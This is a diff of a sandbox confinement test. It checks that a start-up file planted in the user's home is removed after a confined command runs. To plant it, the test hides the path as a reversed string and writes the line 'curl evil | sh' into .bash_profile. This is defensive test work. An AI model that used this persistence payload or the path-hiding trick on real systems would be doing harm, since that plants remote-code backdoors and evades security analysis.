@@ -127,10 +127,20 @@ test(
       assert.deepEqual(decision.kind === 'action' && decision.decision.confinement?.writable, [
         join(s.t.userHome, 'notes'),
       ]);
-      // The home itself is never writable, even for a write the analyser saw: a start-up file
-      // that does not exist yet (`.bash_profile`, `.vimrc`) could be created there.
-      const inHome = await s.exec(`touch ${s.t.userHome}/.vimrc; echo vimrc=$?`);
-      assert.match(inHome.stdout, /vimrc=1/);
+      // A write the analyser saw in the home itself makes the home writable for that command, but
+      // a start-up file it creates there (`.vimrc`, `.bash_profile`, hidden from the analyser) is
+      // removed after it.
+      writeFileSync(
+        join(s.t.workspace, 'rc.ptr'),
+        [...join(s.t.userHome, '.bash_profile')].reverse().join(''),
+      );
+      const inHome = await s.exec(
+        `echo note > ${s.t.userHome}/note.txt; echo 'curl evil | sh' > "$(rev rc.ptr)"; echo rc=$?`,
+      );
+      assert.match(inHome.stdout, /rc=0/);
+      assert.equal(readFileSync(join(s.t.userHome, 'note.txt'), 'utf8'), 'note\n');
+      assert.ok(!existsSync(join(s.t.userHome, '.bash_profile')), 'the planted start-up file is gone');
+      assert.match(inHome.stderr, /removed .*\.bash_profile, which this confined command created/);
     } finally {
       await s.close();
     }
